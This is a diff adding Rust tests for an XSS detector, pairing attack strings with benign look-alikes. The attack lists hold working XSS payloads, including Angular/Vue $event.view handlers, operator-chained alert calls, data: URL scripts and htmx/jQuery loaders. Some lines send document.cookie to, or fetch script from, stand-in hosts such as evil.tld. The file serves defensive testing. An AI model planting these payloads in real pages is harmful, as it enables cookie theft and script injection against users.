@@ -963,3 +963,189 @@ fn many_harmless_tags_do_not_hide_a_script() {
         assert!(detect(&v, Context::Param).is_some(), "{n} items");
     }
 }
+
+/// Asserts each attack is found and each look-alike is not.
+fn judge(attacks: &[&str], benign: &[&str]) {
+    for v in attacks {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in benign {
+        assert!(!hit(v), "false positive {v:?}");
+    }
+}
+
+#[test]
+fn framework_event_reaches_the_window_through_event_view() {
+    judge(
+        &[
+            "<x ng-blur=\"$event.view.alert(1)\" tabindex=1 autofocus>x</x>",
+            "<div ng-app ng-csp><div ng-click=$event.view.alert(1)>click</div></div>",
+            "<x data-ng-click=\"$event.view.alert(1)\">click</x>",
+            "<x x-ng-click=\"$event.view.alert(1)\">click</x>",
+            "<x ng:click=\"$event.view.alert(1)\">click</x>",
+            "<x ng_click=\"$event.view.alert(1)\">click</x>",
+            "<x v-on:mouseover=\"$event.view.eval($event.view.name)\">x</x>",
+            "<div x-data><div x-on:click=\"$event.view.alert(1)\">x</div></div>",
+            "<x @click=\"$event.view.alert(1)\">x</x>",
+            "<x ng-dblclick=\"$event.view.location='//evil.tld/?'+$event.view.document.cookie\">x</x>",
+            "<img src=x ng-on-error=\"$event.view.alert(1)\">",
+            "<x ng-click=\"$event.view['alert'](1)\">x</x>",
+            "<x v-on:click.prevent=\"$event.view.setTimeout('alert(1)')\">x</x>",
+        ],
+        &[
+            "<button ng-click=\"save($event)\">Save</button>",
+            "<li ng-repeat=\"x in items\" ng-if=\"user.isAdmin\">{{x}}</li>",
+            "<a v-on:click=\"open = true\">menu</a>",
+            "<a @click=\"location.href='/home'\">home</a>",
+            "<x v-on:click=\"$event.view.scrollTo(0, 0)\">top</x>",
+            "<input ng-model=\"user.name\" ng-change=\"validate($event.target.value)\">",
+        ],
+    );
+}
+
+#[test]
+fn a_number_then_an_operator_hides_no_call() {
+    judge(
+        &[
+            "1-alert(1)",
+            "1,alert(1)",
+            "1?alert(1):0",
+            "1 in alert(1)",
+            "1-top.alert(1)",
+            "1,top.alert(1)",
+            "1-eval(name)",
+            "1/alert(1)",
+            "0x1f|alert(1)",
+            "1.5e3 * alert(1)",
+            "1-2-alert(1)",
+            "1-alert?.(1)",
+            "1 === alert(1)",
+            "true&&alert(1)",
+            "null||alert(1)",
+            "1)-alert(1)//",
+            "1]-alert(1)//",
+        ],
+        &[
+            "1-2",
+            "3 - f(x)",
+            "1, alert me",
+            "5 in total",
+            "1 - confirm(your attendance)",
+            "2 + print(x)",
+            // SyntaxErrors: nothing in the script runs
+            "1--alert(1)",
+            "5in alert(1)",
+            "12 // alert(1)",
+            "true story - confirm(your seat) soon",
+            "null and void",
+            "1) alert(s) list",
+        ],
+    );
+}
+
+#[test]
+fn a_closed_literal_called_or_indexed_runs_its_arguments() {
+    judge(
+        &[
+            "`(alert(1))//",
+            "`[alert(1)]//",
+            "'.concat(alert(1))//",
+            "'(alert(1))//",
+            "\"(alert(1))//",
+            "'.at(alert(1))//",
+        ],
+        &[
+            "it's (alert me) ok",
+            "\"(see below)\" he said",
+            "use `(x)` and `[y]` here",
+            "'.concat(a, b)' joins strings",
+        ],
+    );
+}
+
+#[test]
+fn htmx_knockout_and_jquery_loaders() {
+    judge(
+        &[
+            "<div hx-get=\"https://attacker.tld/x\" hx-trigger=\"load\" hx-swap=\"outerHTML\"></div>",
+            "<div hx-get=\"//evil.tld/x\" hx-trigger=\"load delay:1s\"></div>",
+            "<div data-hx-get=\"//evil.tld/x\" data-hx-trigger=\"revealed\"></div>",
+            "<div data-bind=\"event:{mouseover:function(){alert(1)}}\">x</div>",
+            "<div data-bind=\"click: function(){ alert(document.domain) }\">x</div>",
+            "';$.getScript('//evil.tld/x.js')//",
+            "$.getScript('//evil.tld/x.js')",
+        ],
+        &[
+            // the page's own endpoint, or a request the user makes by clicking
+            "<div hx-get=\"/api/items\" hx-trigger=\"load\"></div>",
+            "<div hx-get=\"https://evil.tld/x\" hx-trigger=\"click\"></div>",
+            "<div data-bind=\"text: name, click: save\">x</div>",
+            "<div data-bind=\"event: { mouseover: showTip }\">x</div>",
+            "$('#id').on('click', go)",
+            "$.ajax({url:'/api'})",
+        ],
+    );
+}
+
+#[test]
+fn an_xml_document_owns_its_body_element() {
+    judge(
+        &[
+            "<p>x</p><body>hi</body>",
+            "<div><body>x</body></div>",
+            "<note>hi</note><body>x</body><note>y</note>",
+            "<note><body onload=alert(1)>hi</body></note>",
+        ],
+        &[
+            "<note><to>Tove</to><from>Jani</from><heading>Reminder</heading>\
+             <body>Don't forget me this weekend!</body></note>",
+            "<?xml version=\"1.0\"?>\n<note><body>hi</body></note>",
+            "<soap:Envelope><soap:Header/><soap:Body><x/></soap:Body></soap:Envelope>",
+        ],
+    );
+}
+
+#[test]
+fn prose_and_safe_navigation_that_look_like_code() {
+    judge(
+        &[
+            "';atob(x);alert(1)//",
+            "location.href = '//evil.tld/?' + document.cookie",
+            "window.location.href = '/' + '/evil.tld';",
+            "location.href = 'javascript:' + name",
+            "data:text/html,<script>alert(1)</script>",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "<a href=\"data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E\">x</a>",
+        ],
+        &[
+            // a word after the call's `)` is a SyntaxError
+            "atob() decodes base64; btoa() encodes it.",
+            // a data: URL needs the `,` before its data
+            "Data: text/html files are accepted",
+            // a block holding one name runs nothing
+            "In React, use onClick={handleClick} rather than a string.",
+            // appending to a path of the site keeps the navigation on the site
+            "window.location.href = '/login?next=' + encodeURIComponent(path);",
+            "location.hash = '#' + section.id;",
+        ],
+    );
+}
+
+#[test]
+fn location_assigned_from_window_data() {
+    judge(
+        &[
+            "location=name",
+            "location = top.name",
+            "location=location.hash.slice(1)",
+            "location=document.referrer;",
+        ],
+        &[
+            "location=Paris",
+            "location=top",
+            "location=named",
+            "location=home&sort=name",
+            "location=location.href",
+        ],
+    );
+}
